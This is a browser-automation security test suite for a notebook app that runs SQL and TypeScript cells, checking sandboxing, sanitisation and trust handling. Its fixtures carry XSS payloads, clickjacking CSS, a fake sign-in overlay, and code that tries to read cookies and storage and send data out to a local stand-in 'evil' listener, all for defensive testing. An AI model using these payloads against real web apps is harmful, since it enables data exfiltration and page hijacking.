import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { OUTPUT, startHarness, type Harness } from "./harness.ts";
import {
  cell,
  cellStatus,
  cells,
  notebookText,
  openUntrusted,
  ready,
  startApp,
  typeCode,
} from "./helpers.ts";

/**
 * A colleague's notebook, opened as a careful attacker would write it. Every probe has a
 * listener on another loopback port that records each request it receives: nothing may
 * reach it, whatever the notebook tries.
 */

let harness: Harness;
let listener: Server;
/** every request the listener received (path), WebSocket upgrades included */
let received: string[] = [];
let evil = "";

beforeAll(async () => {
  harness = await startHarness();
  listener = createServer((req, res) => {
    received.push(req.url ?? "");
    res.setHeader("Access-Control-Allow-Origin", "*");
    res.end("leaked");
  });
  listener.on("upgrade", (req, socket) => {
    received.push(`upgrade ${req.url ?? ""}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  evil = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
});

afterAll(async () => {
  await harness?.close();
  await new Promise((resolve) => listener?.close(resolve));
});

beforeEach(() => {
  received = [];
});

/**
 * Nothing reached the listener: no page, frame or worker of the app got a request out to it.
 * (The browser's own request log lists attempts its policies then blocked, so the listener is
 * the witness.)
 */
function nothingLeft(): void {
  expect(received).toEqual([]);
}

const openApp = () => startApp(harness);
const openFile = openUntrusted;

const status = cellStatus;

/** Let whatever a notebook might have started (a timer, an image) have its chance. */
async function settle(page: Page): Promise<void> {
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 300)));
}

describe("an untrusted notebook has no effect", () => {
  it("opened from a file, reloaded, opened in a second tab: nothing runs and nothing is requested", async () => {
    const page = await openApp();
    await openFile(
      page,
      "leaky.md",
      notebookText("Leaky", [
        `![pixel](${evil}/prose-image.png)`,
        "",
        "```sql rows",
        "SELECT 1 AS n",
        "```",
        "",
        "```ts beacon",
        `await fetch("${evil}/ts-ran?" + rows.numRows)`,
        "```",
        "",
      ]),
    );
    const url = page.url();
    expect(await status(page, "SQL cell rows").textContent()).toBe("not run (untrusted)");
    expect(await status(page, "TypeScript cell beacon").textContent()).toBe("not run (untrusted)");

    // Reloading does not make the autosave trusted.
    await page.reload();
    await ready(page);
    await page.getByRole("button", { name: "Trust and run" }).waitFor();
    expect(await status(page, "TypeScript cell beacon").textContent()).toBe("not run (untrusted)");

    // Nor does opening it in another tab.
    const second = await page.context().newPage();
    await second.goto(url);
    await ready(second);
    await second.getByRole("button", { name: "Trust and run" }).waitFor();
    expect(await status(second, "SQL cell rows").textContent()).toBe("not run (untrusted)");
    await settle(second);
    await second.close();
    await settle(page);
    nothingLeft();
    await page.context().close();
  });

  it("prose cannot script, fetch or restyle the page, and clicking anywhere trusts nothing", async () => {
    const page = await openApp();
    await openFile(
      page,
      "prose.md",
      notebookText("Prose attacks", [
        "# Quarterly review",
        "",
        `<script>fetch("${evil}/script")</script>`,
        `<img src="x" onerror="fetch('${evil}/onerror')">`,
        `<a href="javascript:fetch('${evil}/javascript')">read more</a>`,
        `<img src="${evil}/img.png">`,
        `<img srcset="${evil}/srcset.png 1x">`,
        `<video poster="${evil}/poster.png"></video>`,
        `<div style="background:url(${evil}/style-attr.png)">styled</div>`,
        `<svg><image href="${evil}/svg-image.png"/></svg>`,
        `<style>@import url(${evil}/import.css); body { background: url(${evil}/body.png) } button, a { position: fixed; inset: 0; width: 100vw; height: 100vh; opacity: 0.01; z-index: 99 }</style>`,
        "",
        "```ts",
        `await fetch("${evil}/ts")`,
        "```",
        "",
      ]),
    );
    // Clicks all over the page, as someone reading it would: the trust banner stays.
    for (const [x, y] of [
      [640, 400],
      [200, 300],
      [900, 600],
      [640, 120],
    ])
      await page.mouse.click(x!, y!);
    // The javascript: link lost its address: clicking it does nothing.
    await cells(page).getByText("read more").click({ force: true });
    await settle(page);
    await page.screenshot({ path: `${OUTPUT}/safety-prose.png` });
    await page.getByRole("button", { name: "Trust and run" }).waitFor();
    expect(await status(page, "TypeScript cell 2").textContent()).toBe("not run (untrusted)");
    // The prose kept none of it: no script, no style, no handler, no address that loads.
    const prose = cell(page, "Text cell 1");
    await prose.getByRole("heading", { name: "Quarterly review" }).waitFor();
    const html = await prose.innerHTML();
    expect(html).not.toContain(evil);
    expect(html).not.toMatch(
      /<script|<style|<link|javascript:|\sonerror=|\sstyle=|srcset=|poster=/i,
    );
    nothingLeft();
    await page.context().close();
  });
});

describe("links in prose", () => {
  it("a link to another site opens in a new tab, by the app, only when clicked", async () => {
    const page = await openApp();
    await openFile(
      page,
      "links.md",
      notebookText("Links", [`Read [the docs](${evil}/docs) first.`, ""]),
    );
    await settle(page);
    expect(received).toEqual([]);
    const [tab] = await Promise.all([
      page.context().waitForEvent("page"),
      cells(page).getByRole("link", { name: "the docs" }).click(),
    ]);
    await tab.waitForLoadState();
    expect(tab.url()).toBe(`${evil}/docs`);
    // The new tab cannot reach back into the app.
    expect(await tab.evaluate(() => window.opener)).toBeNull();
    expect(received).toContain("/docs");
    await page.context().close();
  });
});

describe("trust is a decision about exact content", () => {
  const two = notebookText("Two cells", [
    "```sql rows",
    "SELECT 7 AS n",
    "```",
    "",
    "```ts doubled",
    "rows.getChild('n').get(0) * 2",
    "```",
    "",
  ]);

  it("Run on one cell of an untrusted notebook asks first, runs that cell alone, and trusts nothing", async () => {
    const page = await openApp();
    await openFile(page, "two.md", two);
    const dialog = page.getByRole("dialog", { name: "Run code from an untrusted notebook?" });
    await cells(page).getByRole("button", { name: "Run SQL cell rows" }).click();
    await dialog.getByText("SQL cell rows").waitFor();
    await dialog.getByRole("button", { name: "Cancel" }).click();
    await dialog.waitFor({ state: "hidden" });
    expect(await status(page, "SQL cell rows").textContent()).toBe("not run (untrusted)");

    await cells(page).getByRole("button", { name: "Run SQL cell rows" }).click();
    await dialog.getByRole("button", { name: "Run this cell" }).click();
    await expect.poll(() => status(page, "SQL cell rows").textContent()).toMatch(/ms$/);
    // What reads it did not run, and the notebook is still untrusted.
    expect(await status(page, "TypeScript cell doubled").textContent()).toBe("not run (untrusted)");
    await page.getByRole("button", { name: "Trust and run" }).waitFor();
    await page.reload();
    await ready(page);
    await page.getByRole("button", { name: "Trust and run" }).waitFor();
    await page.context().close();
  });

  it("the user's own edits keep a trusted notebook trusted; another notebook with that code is not", async () => {
    const page = await openApp();
    await openFile(page, "two.md", two);
    await page.getByRole("button", { name: "Trust and run" }).click();
    await ready(page);
    expect(
      await cell(page, "TypeScript cell doubled").getByLabel("Value of doubled").textContent(),
    ).toBe("14");
    await typeCode(page, "TypeScript cell doubled", "rows.getChild('n').get(0) * 3");
    await page
      .getByRole("status", { name: "Save status" })
      .getByText(/^Saved/)
      .waitFor();
    await page.reload();
    await ready(page);
    // Trusted as edited: it runs on opening, with the new code.
    expect(await page.getByRole("button", { name: "Trust and run" }).count()).toBe(0);
    await expect
      .poll(() =>
        cell(page, "TypeScript cell doubled").getByLabel("Value of doubled").textContent(),
      )
      .toBe("21");
    // Trust belongs to the notebook: the same file opened again is another notebook, and asks
    // (so code one notebook wrote into itself never vouches for another).
    await page
      .getByLabel("Open notebook file")
      .setInputFiles({ name: "two.md", mimeType: "text/markdown", buffer: Buffer.from(two) });
    await page.getByRole("button", { name: "Trust and run" }).waitFor();
    expect(await status(page, "SQL cell rows").textContent()).toBe("not run (untrusted)");
    await page.context().close();
  });
});

describe("trusted code is contained in the notebook frame", () => {
  it("cannot reach the app's storage, page, cookies or the network, nor navigate or open windows", async () => {
    const page = await openApp();
    const header = await page.locator("header").first().innerHTML();
    const appStorage = await page.evaluate(async () => (await indexedDB.databases()).length);
    await openFile(
      page,
      "contained.md",
      notebookText("Contained", [
        "```ts tries",
        "const out = {};",
        "const attempt = async (name, fn) => {",
        "  try { out[name] = `reached: ${String(await fn()).slice(0, 60)}`; }",
        "  catch (error) { out[name] = `blocked: ${error?.name ?? error}`; }",
        "};",
        'await attempt("indexedDB", () => new Promise((res, rej) => { const r = indexedDB.open("strata"); r.onsuccess = () => res("opened"); r.onerror = () => rej(r.error); }));',
        'await attempt("localStorage", () => localStorage.getItem("strata"));',
        "await attempt(\"cookie\", () => document.cookie || 'empty');",
        "await attempt(\"parent\", () => parent.document.querySelector('header').innerHTML = '<form>Sign in</form>');",
        `await attempt("top", () => { top.location.href = "${evil}/top"; return "assigned"; });`,
        `await attempt("open", () => { const w = window.open("${evil}/popup"); if (!w) throw new Error("refused"); return "opened"; });`,
        `await attempt("fetch", () => fetch("${evil}/fetch"));`,
        `await attempt("beacon", () => navigator.sendBeacon("${evil}/beacon", "x"));`,
        `await attempt("image", () => new Promise((res, rej) => { const i = new Image(); i.onload = () => res("loaded"); i.onerror = () => rej(new Error("not loaded")); i.src = "${evil}/image.png"; }));`,
        `await attempt("websocket", () => new Promise((res, rej) => { const ws = new WebSocket("${evil.replace("http", "ws")}/ws"); ws.onopen = () => res("open"); ws.onerror = () => rej(new Error("not open")); }));`,
        `await attempt("eventsource", () => new Promise((res, rej) => { const es = new EventSource("${evil}/events"); es.onopen = () => res("open"); es.onerror = () => { es.close(); rej(new Error("not open")); }; }));`,
        `await attempt("webrtc", () => new RTCPeerConnection({ iceServers: [{ urls: "turn:127.0.0.1:9", username: "leak", credential: "x" }] }));`,
        "await attempt(\"drag\", () => { const dt = new DataTransfer(); dt.items.add(new File(['x'], 'x.csv')); window.dispatchEvent(new DragEvent('dragover', { dataTransfer: dt, cancelable: true })); throw new Error('dispatched'); });",
        "out",
        "```",
        "",
      ]),
    );
    await page.getByRole("button", { name: "Trust and run" }).click();
    await ready(page);
    const shown = await cell(page, "TypeScript cell tries").locator("pre").textContent();
    const out = JSON.parse(shown ?? "{}") as Record<string, string>;
    for (const name of [
      "indexedDB",
      "localStorage",
      "cookie",
      "parent",
      "open",
      "fetch",
      "image",
      "websocket",
      "eventsource",
      "webrtc",
    ])
      expect(out[name], `${name}: ${out[name]}`).toMatch(/^blocked/);
    await settle(page);
    nothingLeft();
    // The app is as it was: same page, same header, its storage untouched.
    expect(new URL(page.url()).origin).toBe(harness.origin);
    expect(await page.locator("header").first().innerHTML()).toBe(header);
    expect(await page.evaluate(async () => (await indexedDB.databases()).length)).toBe(appStorage);
    expect(page.context().pages()).toHaveLength(1);
    // A drag the notebook made up does not cover the page with the drop target.
    expect(await page.locator(".drop-overlay").count()).toBe(0);
    await page.context().close();
  });
});

describe("one notebook's database is not the next one's", () => {
  it("what a trusted notebook's SQL leaves behind (temp views, macros, schemas, attached databases, files) is gone when another opens", async () => {
    const page = await openApp();
    await openFile(
      page,
      "poison.md",
      notebookText("Poison", [
        "```ts left",
        "await sql`CREATE OR REPLACE TEMP VIEW sales AS SELECT 'POISONED' AS region, -1 AS amount`;",
        "await sql`CREATE MACRO total(x) AS x * 0`;",
        "await sql`CREATE SCHEMA stash`;",
        "await sql`ATTACH ':memory:' AS keep`;",
        "await sql`COPY (SELECT 'planted' AS p) TO 'planted.csv'`;",
        "'left behind'",
        "```",
        "",
      ]),
    );
    await page.getByRole("button", { name: "Trust and run" }).click();
    await ready(page);
    expect(await cell(page, "TypeScript cell left").getByLabel("Value of left").textContent()).toBe(
      "left behind",
    );
    await openFile(
      page,
      "victim.md",
      notebookText("Victim", [
        "```ts found",
        "const names = async (q) => (await sql([q])).toArray().map((r) => Object.values(r.toJSON()).join('.'));",
        "JSON.stringify({",
        '  views: await names("SELECT view_name FROM duckdb_views() WHERE NOT internal"),',
        "  macros: await names(\"SELECT function_name FROM duckdb_functions() WHERE function_type LIKE '%macro%' AND NOT internal\"),",
        '  schemas: await names("SELECT schema_name FROM duckdb_schemas() WHERE NOT internal"),',
        '  databases: await names("SELECT database_name FROM duckdb_databases() WHERE NOT internal"),',
        "  files: await names(\"SELECT file FROM glob('*planted*')\"),",
        "})",
        "```",
        "",
      ]),
    );
    await page.getByRole("button", { name: "Trust and run" }).click();
    await ready(page);
    const found = JSON.parse(
      (await cell(page, "TypeScript cell found").getByLabel("Value of found").textContent()) ??
        "{}",
    ) as Record<string, string[]>;
    expect(found).toEqual({
      views: [],
      macros: [],
      schemas: [],
      databases: ["memory"],
      files: [],
    });
    await page.context().close();
  });
});

describe("charts in the frame stay interactive", () => {
  it("a Plot chart with tip: true shows its tooltip under the pointer", async () => {
    const page = await openApp();
    await openFile(
      page,
      "tips.md",
      notebookText("Tips", [
        "```ts",
        "Plot.plot({",
        "  width: 480,",
        "  height: 320,",
        "  marks: [Plot.dot([{ x: 1, y: 1, who: 'first' }, { x: 9, y: 9, who: 'ninth' }], { x: 'x', y: 'y', r: 12, tip: true, channels: { who: 'who' } })],",
        "})",
        "```",
        "",
      ]),
    );
    await page.getByRole("button", { name: "Trust and run" }).click();
    await ready(page);
    const chart = cell(page, "TypeScript cell 1").locator("svg").first();
    const dot = chart.locator("circle").nth(1);
    // Plot listens on the whole chart and finds the nearest dot: the pointer goes over this one.
    await dot.hover({ force: true });
    const tip = chart.locator("[aria-label='tip']");
    await expect.poll(() => tip.textContent()).toMatch(/ninth/);
    await page.screenshot({ path: `${OUTPUT}/safety-tip.png` });
    await page.context().close();
  });
});

describe("a runaway cell", () => {
  const runaway = notebookText("Runaway", [
    "```sql before",
    "SELECT 41 + 1 AS answer",
    "```",
    "",
    "```ts spin",
    "while (true) {}",
    "```",
    "",
    "```ts after",
    "before.numRows",
    "```",
    "",
  ]);

  it("shows as running with a Stop button in the app, which stays usable; Stop ends it and nothing is lost", async () => {
    const page = await openApp();
    await openFile(page, "runaway.md", runaway);
    await page.getByRole("button", { name: "Trust and run" }).click();
    const running = page.getByRole("status", { name: "Running" });
    await running.getByText(/Running spin · \d+ s/).waitFor();
    // The app answers while the frame spins: the title can be edited, and is saved.
    await page.getByLabel("Notebook title").fill("Runaway, stopped");
    const started = Date.now();
    await running.getByRole("button", { name: "Stop" }).click();
    await running.waitFor({ state: "hidden", timeout: 5_000 });
    expect(Date.now() - started).toBeLessThan(5_000);
    // Code that never gives the thread back is stopped by making its frame anew.
    await expect.poll(() => status(page, "TypeScript cell spin").textContent()).toBe("stopped");
    await cell(page, "TypeScript cell spin")
      .getByText(/Stopped after \d+\.\d s/)
      .waitFor();
    await page
      .getByRole("status", { name: "Save status" })
      .getByText(/^Saved/)
      .waitFor();
    // Stopped is not finished: opened again, it does not run on its own.
    await page.reload();
    await ready(page);
    await page
      .getByRole("status")
      .getByText(/did not finish/)
      .waitFor();
    expect(await status(page, "TypeScript cell spin").textContent()).toBe("not run");
    expect(await page.getByLabel("Notebook title").inputValue()).toBe("Runaway, stopped");
    expect(await cells(page).getByRole("article").count()).toBe(3);
    expect(
      await cell(page, "TypeScript cell spin")
        .getByLabel("Code of TypeScript cell spin")
        .textContent(),
    ).toBe("while (true) {}");
    await page.context().close();
  });

  it("a notebook whose last run did not finish opens without running", async () => {
    const page = await openApp();
    await openFile(page, "runaway.md", runaway);
    await page.getByRole("button", { name: "Trust and run" }).click();
    await page.getByRole("status", { name: "Running" }).waitFor();
    // The tab goes away mid-run (closed, crashed, reloaded): the next open does not run it.
    await page.reload();
    await ready(page);
    await page
      .getByRole("status")
      .getByText(/did not finish/)
      .waitFor();
    expect(await status(page, "SQL cell before").textContent()).toBe("not run");
    expect(await status(page, "TypeScript cell spin").textContent()).toBe("not run");
    await page.context().close();
  });
});
